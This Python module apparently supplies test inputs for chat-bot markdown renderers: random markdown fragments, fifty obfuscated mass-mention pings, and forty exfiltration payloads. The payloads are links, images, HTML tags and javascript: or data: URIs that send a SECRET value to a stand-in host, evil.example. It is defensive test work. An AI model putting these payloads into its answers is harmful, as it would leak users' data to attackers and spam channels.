"""Texts that the renderers of all platforms are tried with."""

from __future__ import annotations

import re

from hypothesis import strategies as st

from bots.rendering.blocks import blocks_of
from core.types import Locator, Passage, Source

GOOD = "https://docs.example.org/leave"
EVIL = "https://evil.example/?q=SECRET"

PIECES = [
    *("`", "``", "```", "~~~", "[", "]", "(", ")", "](", "![", "<", ">", "|", "\\", "\n", "\n\n", "\n\n", " ", "    "),
    *("- ", "* ", "+ ", "  - ", "    - ", "> ", "1. ", "2) ", "# ", "#### ", "---", "===", "***", "\n|---|---|\n"),
    *("a", "b c", "word ", "x_y_z", "*", "**", "_", "__", "~~", ":", '"', "&lt;", "&amp;", "&", "&#10;", "\t", "<a>"),
    *(
        "年假",
        "**注意：**请",
        "👨\u200d👩\u200d👧",
        "😀",
        "e\u0301",
        "\ud83d",
        "\u200b",
        "\u202e",
        "。",
        "：",
        "(x)",
        "!",
    ),
    *("@everyone", "<@U123>", "<!channel>", "@name", "tg://user?id=1", "[1]", "[1, 2]", "leave.md", "||", "-# "),
    *(EVIL, f"[x]({GOOD}?a=1&b=2)", f"![i]({GOOD}.png)", "[t](tg://user?id=1)", "\n```py\ncode()\n```\n", "\\|"),
    *("\n\n| a | b |\n|---|---|\n| c | 单元 |\n\n", "\n- one\n  - two\n\n    ```\n    x\n    ```\n", "  \n", "\r\n"),
]
MARKDOWN = st.lists(st.sampled_from(PIECES), min_size=1, max_size=30).map("".join)
LONG_MARKDOWN = st.builds(lambda text, times: text * times, MARKDOWN, st.integers(30, 120))

_NAMES = ["everyone", "here", "channel", "group", "EVERYONE", "ｅｖｅｒｙｏｎｅ", "𝐞𝐯𝐞𝐫𝐲𝐨𝐧𝐞", "hｅre"]
PINGS = [
    *(f"{sign}{name}" for sign in "@＠﹫" for name in _NAMES),  # 24
    *("@\u200beveryone", "@every\u200bone", "@\u2060here", "@ever\u00adyone", "@\u202eeveryone", "&#64;everyone"),
    *("<@U123ABC>", "<@W1|name>", "<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S1>", "<!subteam^S1|@x>"),
    *("<#C123>", "<@123456789012345678>", "<@!123456789012345678>", "<@&123456789012345678>", "&lt;!channel&gt;"),
    *("\\<!channel>", "＜!channel＞", "<\u200b!channel>", "@name_of_someone", "@durov"),
    *("[hi](tg://user?id=42)", "tg://user?id=42", "<tg://user?id=42>"),
]
assert len(PINGS) == 50
FRAMES = ["{}", "`{}`", "```\n{}\n```", "**{}**", f"[{{}}]({GOOD})", "| {} |\n|-|"]
"""Where a ping may stand."""

EXFILTRATION = [
    f"[click]({EVIL})",
    f"![picture]({EVIL})",
    f"[![picture]({EVIL})]({EVIL})",
    f"[![picture]({GOOD})]({EVIL})",
    f"![picture]({EVIL} 'title')",
    f'[click](<{EVIL}> "title")',
    f"[click]( {EVIL} )",
    f"[click][ref]\n\n[ref]: {EVIL}",
    f"![picture][ref]\n\n[ref]: {EVIL} 'title'",
    f"[ref]\n\n[ref]:\n  {EVIL}",
    f"> [ref]: {EVIL}\n\n[ref]",
    f"<{EVIL}>",
    EVIL,
    "www.evil.example/?q=SECRET",
    "evil.example/path?q=SECRET",
    "ftp://evil.example/SECRET",
    "javascript:alert(document.cookie)",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,AAAA)",
    f'<img src="{EVIL}">',
    f"<a href='{EVIL}'>click</a>",
    f"<!-- <img src={EVIL}> -->",
    f"[text [nested]]({EVIL})",
    f"[text\nover lines]({EVIL})",
    f"[text\\]]({EVIL})",
    f"\\\\[text]({EVIL})",
    f"`code` [click]({EVIL})",
    f"`open [click]({EVIL})",
    f"| a | b |\n|---|---|\n| `a|b` x `c [y]({EVIL})` | z |",
    f"- ```\n  x\n  ```\n![p]({EVIL})",
    f"1. a\n   ```\n   x\n![p]({EVIL})",
    f"~~~\nx\n~~~\n![p]({EVIL})",
    f"[x]({GOOD}#`) `[y]({EVIL})`",
    f"[c\u200blick]\u200b({EVIL})",
    "h\u200bttps://evil.example/?q=SECRET",
    "https\\://evil.example/?q=SECRET",
    "https&#58;//evil.example/?q=SECRET",
    "ht**tps://evil**.example/?q=SECRET",
    f"[{GOOD}]({EVIL})",
    f"| [a]({EVIL}) | {EVIL} |\n|---|---|\n| ![a]({EVIL}) | <{EVIL}> |",
]
assert len(EXFILTRATION) == 40


def long_answer() -> str:
    """100,000 characters of an answer."""
    section = (
        "## Annual leave\n\nAnnual leave is **28 days** a year [1]; see `leave.md`. 年假为二十八天，*可结转*。\n\n"
        f"- one [page]({GOOD})\n- two\n  - nested\n\n    ```python\n{'    value = {1: 2}' * 3}\n    ```\n\n"
        "```sh\n"
        + "echo 'a line of code' && true\n" * 40
        + "```\n\n| day | 人数 |\n|---|---|\n"
        + "| Monday | 十二 |\n" * 40
        + "\n"
        + "A sentence that goes on, and on. " * 60
        + "\n\n"
    )
    return (section * (100_000 // len(section) + 1))[:100_000]


def source(n: int, document: str = "handbook/leave.md", title: str = "Leave") -> Source:
    passage = Passage("kb", "d", document, title, 0, "text", ("Days",), Locator("page", "", 2, 2), 0.9)
    return Source(n, passage)


def bare(text: str) -> str:
    """What of a text is more than blanks and invisible signs."""
    return re.sub(r"[\s\u200b]", "", text)


def said(markdown: str) -> str:
    """The words of a CommonMark text."""
    words: list[str] = []
    for block in blocks_of(markdown):
        words += [run.text for run in block.runs] + list(block.lines)
        words += [run.text for row in block.rows for cell in row for run in cell]
    return bare("".join(words))


def in_order(words: str, text: str) -> bool:
    """Whether every sign of `words` stands in `text`, in this order; there may be others between."""
    signs = iter(text)
    return all(sign in signs for sign in words)
